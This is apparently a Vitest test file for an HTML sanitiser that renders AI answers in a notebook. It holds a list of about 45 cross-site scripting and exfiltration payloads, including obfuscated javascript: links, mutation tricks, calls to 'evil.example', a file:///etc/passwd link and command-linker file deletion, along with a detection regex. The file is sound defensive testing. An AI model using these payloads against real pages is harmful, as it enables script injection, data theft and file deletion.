// A model's answer that loads an image tells someone else what is in the notebook; one that runs
// a command or a script acts in the reader's name.
import { describe, expect, it } from 'vitest';

import { safeHtml, safeUrl, scrub } from './safe-html';

/** Everything by which HTML can load or run something without a click. */
const ACTIVE =
  /<(img|svg|math|iframe|script|style|link|object|embed|video|audio|source|form|input|button|base|meta|template|picture)|\s(src|srcset|style|on\w+|data-[\w-]+|background|poster|formaction|ping|id|name)=|javascript:|data:|vbscript:/i;

const HOSTILE = [
  '<img src="https://evil.example/?q=secret">',
  '<img src=x onerror=alert(1)>',
  '<img srcset="https://evil.example/a 1x">',
  '<svg><image href="https://evil.example/a"/></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<script>alert(1)</script>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<link rel=stylesheet href=https://evil.example>',
  '<link rel=dns-prefetch href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<video poster="https://evil.example"><source src="https://evil.example"></video>',
  '<audio src="https://evil.example" autoplay></audio>',
  '<table background="https://evil.example"><tr><td background="https://evil.example">x</table>',
  '<form action="https://evil.example"><input name=a><button formaction=javascript:alert(1)>',
  '<input type=image src="https://evil.example">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/lab/api/settings">x</a>',
  '<a href="//evil.example">x</a>',
  '<a ping="https://evil.example" href="https://ok.example">x</a>',
  '<button data-commandlinker-command="filebrowser:delete" data-commandlinker-args="{}">x</button>',
  '<a data-commandlinker-command="docmanager:delete-file" href="#">x</a>',
  '<div id="jp-main" name="top">clobber</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x></template>',
  '<picture><source srcset="https://evil.example"><img src="https://evil.example"></picture>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<details ontoggle=alert(1) open>x</details>',
  '<xss style="behavior: url(x)" onfocus=alert(1) tabindex=1>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'
];

describe('safeHtml', () => {
  it.each(HOSTILE)('disarms %s', html => {
    const once = safeHtml(html);
    expect(once).not.toMatch(ACTIVE);
    expect(safeHtml(once)).not.toMatch(ACTIVE);
  });

  it('turns a foreign image into a link that says where it leads', () => {
    const html = safeHtml('<img alt="chart" src="https://evil.example/c.png?d=1">');
    expect(html).toContain('href="https://evil.example/c.png?d=1"');
    expect(html).toContain('[chart]');
    expect(html).toContain('(evil.example)');
  });

  it('shows the host of a link whose words say something else', () => {
    expect(safeHtml('<a href="https://evil.example/x">https://good.example</a>')).toContain(
      ' (evil.example)'
    );
    expect(safeHtml('<a href="https://evil.example">https://evil.example.good.org</a>')).toContain(
      ' (evil.example)'
    );
    expect(safeHtml('<a href="https://good.example@evil.example/">docs</a>')).toContain(
      '(evil.example)'
    );
  });

  it('does not repeat a host that is already there', () => {
    expect(safeHtml('<a href="https://a.example/x">https://a.example/x</a>')).not.toContain(
      'linkHost'
    );
  });

  it('opens links elsewhere, without telling where from', () => {
    expect(safeHtml('<a href="https://a.example">a</a>')).toContain(
      'rel="noopener noreferrer nofollow" target="_blank"'
    );
  });

  it('keeps what an answer is made of', () => {
    const html =
      '<h2>Title</h2><p>a <strong>b</strong> <em>c</em> <code class="language-python">d</code></p>' +
      '<ol start="2"><li>x</li></ol><table><thead><tr><th align="right">n</th></tr></thead></table>' +
      '<pre><code><span class="ͼ5">def</span></code></pre><blockquote><p>q</p></blockquote><hr>';
    expect(safeHtml(html)).toBe(html);
  });

  it('keeps the words of elements it does not know, and the state of tasks', () => {
    expect(safeHtml('<center>words</center>')).toBe('words');
    expect(safeHtml('<li><input type="checkbox" checked disabled> done</li>')).toBe(
      '<li>☑  done</li>'
    );
  });
});

describe('safeUrl', () => {
  it.each(['https://a.example/', 'HTTP://a.example', 'mailto:a@b.example'])('follows %s', href => {
    expect(safeUrl(href)).not.toBeNull();
  });

  it.each([
    '',
    '#top',
    'x.ipynb',
    '//a.example',
    'ftp://a',
    'blob:x',
    'javascript://a.example/%0a'
  ])('does not follow %j', href => {
    expect(safeUrl(href)).toBeNull();
  });
});

describe('scrub, on what typesetting made', () => {
  it('removes styles that load, handlers, and links of other schemes', () => {
    const host = document.createElement('div');
    host.innerHTML =
      '<mjx-c style="color: red"></mjx-c><mjx-s style="background:url(https://evil.example)"></mjx-s>' +
      '<a href="javascript:alert(1)">x</a><span onclick="alert(1)">y</span>' +
      '<a href="https://a.example" rel="noopener">z</a>';
    scrub(host);
    expect(host.innerHTML).toBe(
      '<mjx-c style="color: red"></mjx-c><mjx-s></mjx-s><a>x</a><span>y</span>' +
        '<a href="https://a.example" rel="noopener noreferrer nofollow">z</a>'
    );
  });
});
